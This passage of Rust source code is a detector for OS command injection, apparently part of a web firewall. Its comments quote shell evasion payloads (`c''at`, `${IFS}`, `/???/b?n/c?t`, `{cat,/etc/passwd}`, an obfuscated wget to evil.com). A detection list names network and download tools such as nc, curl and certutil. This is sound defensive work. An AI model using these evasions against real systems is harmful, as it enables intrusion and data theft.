//! OS command injection, Unix and Windows: shell syntax that ordinary text never holds
//! (`$(...)`, `${...}`, process substitution, brace expansion, globbed system paths, batch
//! `FOR`/`IF`), and a known command where a shell would start one (after `;`, `|`, `&`, a
//! newline, a backtick, or opening the value), read through the evasions shells undo: quotes
//! and backslashes inside a word (`c''at`, `w\hoami`), empty expansions (`who$@ami`,
//! `pi$()ng`), `${IFS}` for a space, and carets (`w^hoami`); a command word built from
//! expansions stands for what they hold (`$0` is the shell, `a=id;$a` runs `id`, cmd's
//! `set a=whoami& call %a%`), and one run through a shell's prefix (`exec`, `command`, `eval`)
//! or by a Windows drive path is the command it names.

use super::decode::{byte_set, find_ci, find_either_ci, find_in, is_word, starts_with_ci, Hit, Shape, WordTable};

/// `full`: every check (arguments, and headers that CRS reads whole); otherwise only the
/// Shellshock function definition, the one command injection carried by any header.
pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit> {
    if !full {
        return if shape.has(const { Shape::mask(b"(") }) { shellshock(v, level) } else { None };
    }
    if shape.has(const { Shape::mask(b"$<>({/!~`") }) {
        if let Some(hit) = syntax(v, level) {
            return Some(hit);
        }
    }
    // Without a separator a command can only open the value; a single plain token (an id, a
    // slug, an email) only as an administration tool's name on its own.
    let separated = shape.has(const { Shape::mask(b";|&`$") }) || shape.line_break();
    let plain_token =
        !shape.whitespace() && !shape.has(const { Shape::mask(b"/\\'\"^{}()[]<>!~*?%") }) && !shape.control();
    let found = if separated {
        let vars = match shape.has(const { Shape::mask(b"$%") }) {
            true => Vars::of(v),
            false => Vars::NONE,
        };
        commands(v, level, &vars)
    } else if plain_token && !lone_admin_tool(v) {
        None
    } else {
        command_at(v, 0, 0, true, level, &Vars::NONE)
    };
    found
        .or_else(|| if shape.whitespace() || shape.has(const { Shape::mask(b"/") }) { batch(v) } else { None })
        .or_else(|| if shape.has(const { Shape::mask(b"-(|'\"${") }) { powershell(v) } else { None })
        .or_else(|| if level >= 2 && shape.line_break() { mail_protocol(v) } else { None })
}

fn hit(level: u8, start: usize, end: usize, max: u8) -> Option<Hit> {
    (level <= max).then(|| Hit::new(level, start, end))
}

/// Shell constructs with no reading as text.
fn syntax(v: &[u8], level: u8) -> Option<Hit> {
    /// The bytes the checks open with (`b` and `s` only at the start).
    static OPENS: [bool; 256] = byte_set(b"$<>(!~{/`");
    let mut i = 0;
    // The backtick that closes the last pair opened: it opens none (in `` `a` text `b` `` the
    // text between the spans is no command substitution).
    let mut partner = None;
    while i < v.len() {
        if i > 0 {
            match find_in(v, i, &OPENS) {
                Some(at) => i = at,
                None => break,
            }
        }
        if partner == Some(i) {
            partner = None;
            i += 1;
            continue;
        }
        if let Some(verdict) = syntax_at(v, i, level) {
            return verdict;
        }
        partner = partner.or_else(|| backtick_partner(v, i));
        i += 1;
    }
    None
}

/// The backtick that closes a single one at `i` (doubled ones are an evasion, read apart).
fn backtick_partner(v: &[u8], i: usize) -> Option<usize> {
    let single = v[i] == b'`' && v.get(i + 1) != Some(&b'`') && (i == 0 || v[i - 1] != b'`');
    single.then(|| v[i + 1..].iter().position(|&b| b == b'`').map(|close| i + 1 + close)).flatten()
}

/// The checks of [`syntax`] at `i`: `Some` ends the scan with its verdict.
#[inline(never)]
fn syntax_at(v: &[u8], i: usize, level: u8) -> Option<Option<Hit>> {
    let n = v.len();
    let next = v.get(i + 1).copied();
    let end = (i + 24).min(n);
    match (v[i], next) {
        (b'$', Some(b'(')) | (b'$', Some(b'[')) => return Some(hit(1, i, end, level)),
        (b'$', Some(b'{')) => {
            let body = &v[i + 2..];
            let close = body.iter().position(|&b| b == b'}').unwrap_or(body.len());
            let inner = &body[..close];
            // `${name}` is also every template language's placeholder; what shells alone do
            // (IFS, operators inside, lookups like `${jndi:`) is an attack.
            let plain = !inner.is_empty() && inner.iter().all(|&b| is_word(b) || b == b'.');
            let shell_var = starts_with_ci(inner, b"ifs")
                || inner.eq_ignore_ascii_case(b"path")
                || inner.eq_ignore_ascii_case(b"home")
                || inner.eq_ignore_ascii_case(b"shell")
                || inner.eq_ignore_ascii_case(b"bash");
            if !plain || shell_var {
                return Some(hit(1, i, end, level));
            }
            return Some(hit(2, i, end, level));
        }
        (b'$', Some(b'I' | b'i'))
            if starts_with_ci(&v[i + 1..], b"ifs")
                && v.get(i + 4).is_none_or(|&b| !is_word(b) || b.is_ascii_digit()) =>
        {
            return Some(hit(1, i, end, level));
        }
        (b'$', Some(b'@' | b'*')) if i > 0 && v[i - 1].is_ascii_alphanumeric() => {
            return Some(hit(1, i - 1, end, level))
        }
        (b'$', Some(b'S' | b's' | b'B' | b'b'))
            if (starts_with_ci(&v[i + 1..], b"shell") || starts_with_ci(&v[i + 1..], b"bash"))
                && v.get(i + 1 + if matches!(next, Some(b'S' | b's')) { 5 } else { 4 })
                    .is_none_or(|&b| !is_word(b)) =>
        {
            return Some(hit(1, i, end, level));
        }
        (b'<' | b'>', Some(b'(')) => return Some(hit(1, i, end, level)),
        (b'(', _) => {
            // `() {`: a function definition (Shellshock and friends).
            let mut j = i + 1;
            while j < n && v[j] == b' ' {
                j += 1;
            }
            if v.get(j) == Some(&b')') {
                j += 1;
                while j < n && v[j] == b' ' {
                    j += 1;
                }
                if v.get(j) == Some(&b'{') {
                    // Looked at from `i` back, so a run of leading blanks is not read again for
                    // every definition after it.
                    let lvl = if v[..i].iter().rev().all(|b| b.is_ascii_whitespace()) { 1 } else { 2 };
                    if let Some(h) = hit(lvl, i, (j + 16).min(n), level) {
                        return Some(Some(h));
                    }
                }
            }
        }
        (b'!', Some(b'-')) if v.get(i + 2).is_some_and(u8::is_ascii_digit) => return Some(hit(1, i, end, level)),
        (b'~', Some(b'+' | b'-'))
            if (i == 0 || v[i - 1].is_ascii_whitespace())
                && v.get(i + 2).is_none_or(|b| b.is_ascii_digit() || b.is_ascii_whitespace() || *b == b'/') =>
        {
            return Some(hit(1, i, end, level));
        }
        (b'{', _) => {
            if let Some((close, runs)) = brace_expansion(v, i) {
                return Some(hit(if runs { 1 } else { 2 }, i, i + close + 1, level));
            }
        }
        (b'/', _)
            if i == 0
                || matches!(
                    v[i - 1],
                    b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'`' | b'(' | b'\'' | b'"' | b'\n'
                ) =>
        {
            if let Some(end) = globbed_system_path(&v[i..]) {
                return Some(hit(1, i, i + end, level));
            }
            if let Some(end) = binary_path(&v[i..]) {
                return Some(hit(1, i, i + end, level));
            }
        }
        (b'b' | b's', _) if i == 0 => {
            if let Some(end) = binary_path(v) {
                return Some(hit(1, 0, end, level));
            }
        }
        (b'`', _) => {
            if let Some(h) = backticks(v, i, level) {
                return Some(Some(h));
            }
        }
        _ => {}
    }
    None
}

/// `() {` opening a header value: bash before 4.3 ran what followed (CVE-2014-6271).
fn shellshock(v: &[u8], level: u8) -> Option<Hit> {
    let t = v.trim_ascii_start();
    let t = t.strip_prefix(b"(")?.trim_ascii_start();
    let t = t.strip_prefix(b")")?.trim_ascii_start();
    t.starts_with(b"{").then(|| Hit::new(1, 0, v.len().min(24))).filter(|h| h.level <= level)
}

/// `{cat,/etc/passwd}`, `c{a,ou}t`, `{,ifconfig}`: a comma list in braces at `open`, no spaces,
/// with a letter in it (not a JSON object, not a set of numbers). Returns the offset of `}` from
/// `open`, and whether the expansion runs something: an empty or a path element, or a known
/// command once the word around the braces is put to an element (`c{a,ou}t` is `cat`). A list of
/// words (`fields={id,name}`, `*.{jpg,png}`, GraphQL-like field selections) only from paranoia 2.
fn brace_expansion(v: &[u8], open: usize) -> Option<(usize, bool)> {
    let close = v[open..].iter().take(256).position(|&b| b == b'}')?;
    let inner = &v[open + 1..open + close];
    let ok = inner.contains(&b',')
        && inner.iter().any(u8::is_ascii_alphabetic)
        && !inner.iter().any(|&b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b':' | b'{' | b'='));
    if !ok {
        return None;
    }
    let glued = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-');
    let before = v[..open].iter().rev().take_while(|b| glued(b)).count();
    let after = v[open + close + 1..].iter().take_while(|b| glued(b)).count();
    let (prefix, suffix) = (&v[open - before..open], &v[open + close + 1..open + close + 1 + after]);
    let runs = inner.split(|&b| b == b',').any(|element| {
        // A path, an escape, or an expansion a shell undoes before it looks the word up
        // (`{wg$@et,evil.com}` runs wget).
        if element.is_empty() || element.iter().any(|b| matches!(b, b'/' | b'\\' | b'$' | b'`' | b'?' | b'*' | b'[')) {
            return true;
        }
        let mut word = [0u8; 40];
        let len = prefix.len() + element.len() + suffix.len();
        if len > word.len() {
            return false;
        }
        word[..prefix.len()].copy_from_slice(prefix);
        word[prefix.len()..prefix.len() + element.len()].copy_from_slice(element);
        word[prefix.len() + element.len()..len].copy_from_slice(suffix);
        word[..len].make_ascii_lowercase();
        classify(&word[..len]).is_some()
    });
    Some((close, runs))
}

/// A program in a system binary directory: `/bin/ab`, `/usr/local/sbin/x`, or `bin/visudo` with
/// a known command. Returns the length of the path.
fn binary_path(v: &[u8]) -> Option<usize> {
    let absolute = v.first() == Some(&b'/');
    let mut rest = if absolute { &v[1..] } else { v };
    for prefix in [&b"usr/"[..], b"local/"] {
        if let Some(r) = rest.strip_prefix(prefix) {
            rest = r;
        }
    }
    let rest = rest.strip_prefix(b"bin/").or_else(|| rest.strip_prefix(b"sbin/"))?;
    let name_end = rest.iter().position(|&b| !(is_word(b) || matches!(b, b'-' | b'.' | b'+'))).unwrap_or(rest.len());
    let name = &rest[..name_end];
    if name.is_empty() {
        return None;
    }
    let known = classify(&name.to_ascii_lowercase()).is_some();
    (absolute || known).then_some(v.len() - rest.len() + name_end)
}

/// The longest path [`globbed_system_path`] reads: a system path with globs is short (`/???/b?n/c?t`).
const MAX_GLOBBED_PATH: usize = 256;

/// System directories whose contents an attacker names with globs to dodge word filters.
const SYSTEM_DIRS: &[&[u8]] =
    &[b"bin", b"sbin", b"etc", b"usr", b"dev", b"tmp", b"var", b"proc", b"lib", b"opt", b"root", b"home"];

/// A path from the root with a glob (`?`, `*`, `[...]`) where a system directory or file name
/// stands: `/???/b?n/c?t`, `/etc/pa[s]swd`, `/bi[n]/bash`. Returns the length of the path.
fn globbed_system_path(v: &[u8]) -> Option<usize> {
    // Read this far at most: called at every `/` after a blank, a path unended by its stop
    // characters (an unclosed `[`) cost the rest of the value each time, the square of it in all.
    let v = &v[..v.len().min(MAX_GLOBBED_PATH)];
    let mut end = 0;
    let mut depth = 0;
    while end < v.len() {
        let b = v[end];
        match b {
            b'[' => depth += 1,
            b']' => depth = (depth as i32 - 1).max(0) as u32,
            _ if depth > 0 => {}
            b' ' | b'\t' | b'\n' | b'\'' | b'"' | b'=' | b'&' | b';' | b'|' | b'<' | b'>' | b'(' | b')' => break,
            _ => {}
        }
        end += 1;
    }
    let path = &v[..end];
    let has_glob = path.iter().enumerate().any(|(i, &b)| b == b'[' || b == b'*' || (b == b'?' && i > 0));
    if !has_glob || path.len() < 4 {
        return None;
    }
    // The first segment, up to the next `/` outside brackets.
    let mut depth = 0;
    let mut seg_end = path.len();
    for (i, &b) in path.iter().enumerate().skip(1) {
        match b {
            b'[' => depth += 1,
            b']' => depth = (depth as i32 - 1).max(0) as u32,
            b'/' if depth == 0 => {
                seg_end = i;
                break;
            }
            _ => {}
        }
    }
    let first = &path[1..seg_end];
    SYSTEM_DIRS.iter().any(|d| glob_matches(first, d)).then_some(end)
}

/// Shell glob match of `pattern` against `name` (`?`, `*`, `[...]` with `!`/`^` and ranges);
/// bounded by the pattern and name lengths (both short here).
fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
    if pattern.len() > 64 {
        return false;
    }
    fn go(p: &[u8], n: &[u8], budget: &mut u32) -> bool {
        *budget = budget.saturating_sub(1);
        if *budget == 0 {
            return false;
        }
        match p.first() {
            None => n.is_empty(),
            Some(b'*') => (0..=n.len()).any(|k| go(&p[1..], &n[k..], budget)),
            Some(b'?') => !n.is_empty() && go(&p[1..], &n[1..], budget),
            Some(b'[') => {
                let Some(close) = p.iter().skip(2).position(|&b| b == b']').map(|c| c + 2) else {
                    return !n.is_empty() && n[0] == b'[' && go(&p[1..], &n[1..], budget);
                };
                let Some(&c) = n.first() else { return false };
                let mut set = &p[1..close];
                let negate = matches!(set.first(), Some(b'!' | b'^'));
                if negate {
                    set = &set[1..];
                }
                let mut found = false;
                let mut k = 0;
                while k < set.len() {
                    if k + 2 < set.len() && set[k + 1] == b'-' {
                        found |= (set[k]..=set[k + 2]).contains(&c.to_ascii_lowercase());
                        k += 3;
                    } else {
                        found |= set[k].eq_ignore_ascii_case(&c);
                        k += 1;
                    }
                }
                found != negate && go(&p[close + 1..], &n[1..], budget)
            }
            Some(&b) => !n.is_empty() && b.eq_ignore_ascii_case(&n[0]) && go(&p[1..], &n[1..], budget),
        }
    }
    let mut budget = 4096;
    go(pattern, name, &mut budget)
}

/// A backtick pair: empty inside a word (`pi``ng`), or holding a command. Markdown puts code in
/// backticks too, so a pair inside prose counts at 1 only when what it holds runs something
/// (`` `cat /etc/passwd` ``), and at 2 when it merely names a command (`` `npm install` ``).
fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
    let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
    let inner = &v[open + 1..close];
    if inner.is_empty() {
        // `wh``oami`: empty backticks inside a word. A markdown code fence (```python) is no word.
        let in_word =
            open > 0 && v[open - 1].is_ascii_alphanumeric() && v.get(close + 1).is_some_and(u8::is_ascii_alphanumeric);
        return if in_word { hit(1, open.saturating_sub(4), (close + 5).min(v.len()), level) } else { None };
    }
    // A markdown code fence's backticks pair with nothing; the code inside is read as any text.
    let run_start = open - v[..open].iter().rev().take_while(|&&b| b == b'`').count();
    if level < 2 && fence_line(v, run_start).is_some() {
        return None;
    }
    let (word, end) = read_command(inner, 0, &Vars::NONE);
    let Some(kind) = classify(word.text()) else { return hit(3, open, close + 1, level) };
    let glued = open > 0 && is_word(v[open - 1]);
    // From the backticks outwards: blanks at the value's ends are not read again for each pair.
    let whole =
        v[..open].iter().rev().all(u8::is_ascii_whitespace) && v[close + 1..].iter().all(u8::is_ascii_whitespace);
    let runs = word.evasive
        || matches!(
            (kind, follow(inner, end)),
            (_, Follow::ShellArgument) | (Kind::Rare, Follow::End | Follow::Operator)
        );
    let lvl = if glued || whole || (runs && prose_quote(v, open).is_none()) { 1 } else { 2 };
    hit(lvl, open, close + 1, level)
}

/// Prose that quotes a command's name in backticks at `open` (`Run \`make\` first`, `use
/// \`HEAD\` requests`): a blank before, a blank or punctuation after, and inside one plain word
/// of English that also names a command ([`english_command`]): `uname`, `env`, `id`, `sh` or
/// `reboot` quoted so still count. Returns the closing backtick.
fn prose_quote(v: &[u8], open: usize) -> Option<usize> {
    let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
    let inner = &v[open + 1..close];
    let (word, end) = read_command(inner, 0, &Vars::NONE);
    let prose = (open == 0 || v[open - 1].is_ascii_whitespace() || v[open - 1] == b'(')
        && v.get(close + 1).is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'.' | b',' | b'!' | b'?' | b':'))
        && !word.evasive
        && !word.pathed
        && follow(inner, end) == Follow::End
        && english_command(word.text());
    prose.then_some(close)
}

/// Words of English that name commands too, which prose quotes in backticks.
fn english_command(w: &[u8]) -> bool {
    matches!(
        w,
        b"head"
            | b"make"
            | b"find"
            | b"sort"
            | b"test"
            | b"time"
            | b"date"
            | b"more"
            | b"less"
            | b"tail"
            | b"type"
            | b"file"
            | b"join"
            | b"watch"
            | b"touch"
            | b"link"
            | b"split"
            | b"paste"
            | b"look"
            | b"print"
            | b"read"
            | b"wait"
            | b"yes"
            | b"true"
            | b"false"
            | b"which"
            | b"cut"
            | b"diff"
            | b"top"
            | b"man"
            | b"host"
    )
}

/// The end of the line of a markdown code fence opening at `i`: three backticks at the start of a
/// line (after at most three blanks), then nothing or a language's name (```python). Mid-line
/// backticks (`a```id```) are a shell's, and so is a fence line with more on it (```;id).
fn fence_line(v: &[u8], i: usize) -> Option<usize> {
    if !v[i..].starts_with(b"```") {
        return None;
    }
    // At most three blanks before it on its line: looked at, not the whole line back (asked at
    // every run of three backticks, that had cost a value of them its square).
    let blanks = v[..i].iter().rev().take(4).take_while(|&&b| b == b' ').count();
    if blanks > 3 || (i > blanks && v[i - blanks - 1] != b'\n') {
        return None;
    }
    let rest = &v[i..];
    let end = rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len());
    let line = rest[..end].trim_ascii_end();
    let tag = &line[line.iter().take_while(|&&b| b == b'`').count()..];
    tag.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'#' | b'.' | b'_')).then_some(i + end)
}

/// The variables a value assigns where a command could start (`a=id`, `x=i;y=d`, cmd's
/// `set a=whoami`): a command word made of their expansions (`$a`, `$x$y`, `%a%`) runs what
/// they hold. The first few only: an attack needs one or two, and each lookup is a short scan.
struct Vars<'a> {
    found: [(&'a [u8], &'a [u8]); MAX_VARS],
    len: usize,
    /// Every name the value assigns, however (`a=`, `a+=`, `read a`, `for a in`), as two bits
    /// of 256 each: whether a name is one is a lookup, with no cap on how many there are.
    names: [u64; 4],
}

const MAX_VARS: usize = 8;

impl<'a> Vars<'a> {
    const NONE: Vars<'static> = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: [0; 4] };

    /// One pass over `v`, at each word's start after the value's start, a separator, a blank or
    /// a parenthesis (not after `$`, as PHP's and Perl's `$a=1` are): a name
    /// (`[A-Za-z_][A-Za-z0-9_]*`) and `=` (or `+=`), its value up to a blank or a separator, or
    /// inside the quotes it opens; the names `read` fills and `for` takes.
    fn of(v: &'a [u8]) -> Vars<'a> {
        let mut vars = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: [0; 4] };
        let mut i = 0;
        while i < v.len() {
            let starts_word =
                i == 0 || matches!(v[i - 1], b';' | b'&' | b'|' | b'\n' | b'\r' | b'`' | b'(' | b')' | b' ' | b'\t');
            if !starts_word || !(v[i].is_ascii_alphabetic() || v[i] == b'_') {
                i += 1;
                continue;
            }
            let name_len = v[i..].iter().take_while(|&&b| is_word(b)).count();
            let (name, mut after) = (&v[i..i + name_len], i + name_len);
            if matches!(name, b"read" | b"for") && v.get(after) == Some(&b' ') {
                // `read -r a b`, `for a in ...`: the names they fill; prose (`for all of us`,
                // `read the docs`) fills none, and must not fill the filter.
                let line_end = v[after..]
                    .iter()
                    .position(|&b| matches!(b, b';' | b'&' | b'|' | b'\n' | b'\r' | b'<'))
                    .map_or(v.len(), |p| after + p);
                let mut words = v[after..line_end].split(u8::is_ascii_whitespace).filter(|w| !w.is_empty());
                let named = |n: &[u8]| n.iter().all(|&b| is_word(b));
                if name == b"for" {
                    if let (Some(n), Some(b"in")) = (words.next(), words.next()) {
                        if named(n) {
                            vars.add(n);
                        }
                    }
                } else {
                    let names: Vec<&[u8]> = words.filter(|w| !w.starts_with(b"-")).take(4).collect();
                    if names.iter().all(|n| named(n)) {
                        names.iter().for_each(|n| vars.add(n));
                    }
                }
                i = line_end.max(after + 1);
                continue;
            }
            if v.get(after) == Some(&b'+') && v.get(after + 1) == Some(&b'=') {
                after += 1;
            }
            if v.get(after) != Some(&b'=') {
                i = after;
                continue;
            }
            vars.add(name);
            let mut start = after + 1;
            let end = match v.get(start) {
                Some(&q @ (b'\'' | b'"')) => {
                    start += 1;
                    v[start..].iter().position(|&b| b == q).map_or(v.len(), |p| start + p)
                }
                _ => v[start..]
                    .iter()
                    .position(|&b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b'`' | b')'))
                    .map_or(v.len(), |p| start + p),
            };
            if vars.len < MAX_VARS {
                vars.found[vars.len] = (name, command_part(&v[start..end]));
                vars.len += 1;
            }
            i = end.max(after + 1);
        }
        vars
    }

    /// The value the last assignment of `name` gave it, when it is one of the first few.
    fn value_of(&self, name: &[u8]) -> Option<&'a [u8]> {
        self.value_where(|n| n == name)
    }

    fn value_where(&self, named: impl Fn(&[u8]) -> bool) -> Option<&'a [u8]> {
        self.found[..self.len].iter().rev().find(|(n, _)| named(n)).map(|(_, value)| *value)
    }

    /// The two bits of 256 that stand for `name`.
    fn bits(name: &[u8]) -> [(usize, u64); 2] {
        let hash = name.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3));
        [((hash >> 6) as usize & 3, 1 << (hash & 63)), ((hash >> 20) as usize & 3, 1 << ((hash >> 8) & 63))]
    }

    fn add(&mut self, name: &[u8]) {
        for (word, bit) in Self::bits(name) {
            self.names[word] |= bit;
        }
    }

    /// Whether the value assigns `name` anywhere (rarely, a name it does not: bits shared).
    fn assigns(&self, name: &[u8]) -> bool {
        Self::bits(name).iter().all(|&(word, bit)| self.names[word] & bit != 0)
    }

    /// What the expansion at `i` (`$name`, `${name}`, `%name%`) stands for, and
    /// where it ends; `None` when it is no expansion or names nothing the value assigned.
    fn expansion(&self, v: &[u8], i: usize) -> Option<(&'a [u8], usize)> {
        let (name, end) = expansion_name(v, i)?;
        if v[i] == b'%' && name.eq_ignore_ascii_case(b"comspec") {
            return Some((b"cmd", end));
        }
        if v[i] == b'%' && (name.eq_ignore_ascii_case(b"windir") || name.eq_ignore_ascii_case(b"systemroot")) {
            return Some((b"c:/windows", end));
        }
        // cmd's names ignore case, a shell's do not.
        let value = match v[i] {
            b'%' => self.value_where(|n| n.eq_ignore_ascii_case(name)),
            _ => self.value_of(name),
        };
        value.map(|value| (value, end))
    }
}

/// The name an expansion at `i` (`$name`, `${name}`, `%name%`) names, and where it ends;
/// `None` when it is none.
fn expansion_name(v: &[u8], i: usize) -> Option<(&[u8], usize)> {
    let rest = &v[i + 1..];
    let (name, end) = match (v[i], rest.first()) {
        (b'$', Some(b'{')) => {
            // A name is short: `${` with no `}` near it is none (not searched to the end).
            let close = rest.iter().take(256).position(|&b| b == b'}')?;
            (&rest[1..close], i + 2 + close)
        }
        (b'$', _) => {
            let len = rest.iter().take_while(|&&b| is_word(b)).count();
            (&rest[..len], i + 1 + len)
        }
        (b'%', _) => {
            let close = rest.iter().take(32).position(|&b| b == b'%')?;
            (&rest[..close], i + 2 + close)
        }
        _ => return None,
    };
    (!name.is_empty() && name.iter().all(|&b| is_word(b))).then_some((name, end))
}

/// What of a variable's value can name a command, found once when it is assigned (a value is
/// read at each use, and a 32 KiB one used 16,000 times was read each time): the run of bytes
/// a command name may hold, of a path only its last `/` and name, at most a word's length.
fn command_part(value: &[u8]) -> &[u8] {
    let usable = value.iter().take_while(|&&c| c.is_ascii_alphanumeric() || b"-_.+/:".contains(&c)).count();
    // A value a shell goes on to undo (`i\d`, `i"d"`, `$(...)`, `` `...` ``) is not known here:
    // empty, so a word using it is taken for what it could make.
    if value.get(usable).is_some_and(|b| b"\\'\"$`(".contains(b)) {
        return b"";
    }
    let value = &value[..usable];
    let value = value.iter().rposition(|&c| c == b'/').map_or(value, |slash| &value[slash..]);
    &value[..value.len().min(41)]
}

/// A command word as a shell would see it once evasions are undone, lower-cased.
struct Word {
    buf: [u8; 40],
    len: usize,
    /// The word had quotes, backslashes, carets or empty expansions inside it.
    evasive: bool,
    /// It was reached through a path (`/bin/cat`).
    pathed: bool,
    /// Made of expansions alone (`$0`, `$a$b`, `%a%`).
    expanded: bool,
    /// Written with a capital (`NC`, `Curl`): no Unix command is.
    capital: bool,
    /// Read as a Windows path from its drive (`c:\windows\...`).
    drive: bool,
}

impl Default for Word {
    fn default() -> Self {
        Word { buf: [0; 40], len: 0, evasive: false, pathed: false, expanded: false, capital: false, drive: false }
    }
}

impl Word {
    /// Adds a byte while there is room (a longer word is no command anyway).
    fn push(&mut self, b: u8) {
        self.pathed |= b == b'/';
        // `//` and `/./` name no directory: a run of them (`/./././usr/bin/id`) is one `/`.
        if b == b'/' && self.buf[..self.len].ends_with(b"/.") {
            self.len -= 1;
            return;
        }
        if b == b'/' && self.buf[..self.len].ends_with(b"/") {
            return;
        }
        if self.len == self.buf.len() && self.pathed {
            // Only the last name of a long path is the command: keep it, from its `/`.
            if let Some(slash) = self.buf.iter().rposition(|&c| c == b'/') {
                self.buf.copy_within(slash..self.len, 0);
                self.len -= slash;
            }
        }
        if self.len < self.buf.len() {
            self.buf[self.len] = b;
            self.len += 1;
        }
    }

    fn text(&self) -> &[u8] {
        let w = &self.buf[..self.len];
        let base = w.iter().rposition(|&b| b == b'/' || b == b'\\').map_or(w, |p| &w[p + 1..]);
        base.strip_suffix(b".exe").unwrap_or(base)
    }
}

/// Reads a command word at `i` (after blanks); returns it and where it ended. Expansions in it
/// stand for what a shell puts there: a variable for what `vars` says the value assigned it
/// (`a=id;$a`, `set a=whoami& call %a%`), cmd's `%COMSPEC%` and `%windir%` for theirs.
fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
    let mut w = Word::default();
    while i < v.len() && matches!(v[i], b' ' | b'\t' | b'{' | b'(' | b'\'' | b'"' | 0x0b | 0x0c) {
        i += 1;
    }
    // A Windows drive (`c:\windows\system32\whoami.exe`): its backslashes are the path's.
    w.drive = v.get(i).is_some_and(u8::is_ascii_alphabetic)
        && v.get(i + 1) == Some(&b':')
        && matches!(v.get(i + 2), Some(b'\\' | b'/'));
    if w.drive {
        i += 2;
    }
    loop {
        if i >= v.len() {
            break;
        }
        let b = v[i];
        match b {
            b'\\' if w.drive => {
                w.push(b'/');
                i += 1;
            }
            b'\'' | b'"' | b'\\' | b'^' => {
                // Inside a word (`c''at`, `w\hoami`, `w^hoami`) these vanish in the shell; a
                // quote closing the word (`"WRITE" DESIGN`) is just a quote.
                let mut j = i;
                while j < v.len() && matches!(v[j], b'\'' | b'"' | b'\\' | b'^') {
                    j += 1;
                }
                let inside = v.get(j).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/');
                w.evasive |= inside && (w.len > 0 || matches!(b, b'\\' | b'^'));
                if !inside && w.len > 0 {
                    i = j;
                    break;
                }
                i = j;
            }
            b'$' if matches!(v.get(i + 1), Some(b'@' | b'*')) => {
                w.evasive = true;
                i += 2;
            }
            b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) == Some(&b')') => {
                w.evasive = true;
                i += 3;
            }
            b'<' | b'>' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) == Some(&b')') && w.len > 0 => {
                w.evasive = true;
                i += 3;
            }
            b'`' if v.get(i + 1) == Some(&b'`') => {
                w.evasive = true;
                i += 2;
            }
            b'/' => {
                w.push(b'/');
                i += 1;
            }
            b'$' | b'%' => match vars.expansion(v, i) {
                Some((value, end)) => {
                    // Inside a word (`who%a%`), an evasion; the whole word, what it stands for.
                    w.evasive |= w.len > 0 && !w.expanded;
                    w.expanded = w.len == 0 || w.expanded;
                    // `%windir%\system32\...`: a drive's path goes on with backslashes.
                    w.drive |= value.contains(&b':');
                    // Of a path only its last name can be the command ([`command_part`]).
                    let value = match value.iter().rposition(|&c| c == b'/') {
                        Some(slash) => {
                            w.push(b'/');
                            &value[slash + 1..]
                        }
                        None => value,
                    };
                    for &c in value.iter().filter(|&&c| c != b':').take(w.buf.len()) {
                        w.push(c.to_ascii_lowercase());
                    }
                    i = end;
                }
                None => break,
            },
            _ if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+') => {
                w.expanded = false;
                w.capital |= b.is_ascii_uppercase();
                if w.len < w.buf.len() || w.pathed {
                    w.push(b.to_ascii_lowercase());
                } else {
                    // Longer than any command: not one. It ends where a shell's word does: a
                    // blank or an operator (read past operators, a value of many `;` and long
                    // words cost its square).
                    w.len = 0;
                    while i < v.len()
                        && !v[i].is_ascii_whitespace()
                        && !matches!(v[i], b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>' | b'`' | b'$')
                    {
                        i += 1;
                    }
                    return (w, i);
                }
                i += 1;
            }
            _ => break,
        }
    }
    (w, i)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// A command name with no other common meaning.
    Rare,
    /// A command that is also a word of English or a language name: needs shell-looking
    /// arguments before it counts.
    Common,
}

/// Command names with no other common meaning (sorted; looked up through a hash index).
const RARE: &[&[u8]; 170] = &[
    b"7z",
    b"adduser",
    b"apt-get",
    b"aptitude",
    b"arp",
    b"awk",
    b"base64",
    b"bash",
    b"bcdboot",
    b"bcdedit",
    b"bitsadmin",
    b"bsdtar",
    b"bunzip2",
    b"busybox",
    b"bzcat",
    b"bzip2",
    b"c89",
    b"c99",
    b"cacls",
    b"capsh",
    b"cc",
    b"certutil",
    b"chattr",
    b"chef",
    b"chgrp",
    b"chmod",
    b"chown",
    b"clang",
    b"cmd",
    b"cmstp",
    b"crontab",
    b"cscli",
    b"cscript",
    b"csh",
    b"curl",
    b"dash",
    b"dig",
    b"dmesg",
    b"dnf",
    b"doas",
    b"docker",
    b"dpkg",
    b"dsquery",
    b"egrep",
    b"env",
    b"exiftool",
    b"fdisk",
    b"fgrep",
    b"findstr",
    b"g++",
    b"gawk",
    b"gcc",
    b"gdb",
    b"getent",
    b"grep",
    b"gunzip",
    b"gzip",
    b"hexdump",
    b"htop",
    b"icacls",
    b"ifconfig",
    b"ifdown",
    b"ifup",
    b"insmod",
    b"installutil",
    b"ipconfig",
    b"iptables",
    b"irb",
    b"jexec",
    b"killall",
    b"knife",
    b"ksh",
    b"kubectl",
    b"lastlog",
    b"ls",
    b"lsattr",
    b"lsblk",
    b"lscpu",
    b"lsmod",
    b"lsof",
    b"ltrace",
    b"mkdir",
    b"mkfifo",
    b"mknod",
    b"modprobe",
    b"msbuild",
    b"mshta",
    b"msiexec",
    b"nc",
    b"ncat",
    b"netcat",
    b"netstat",
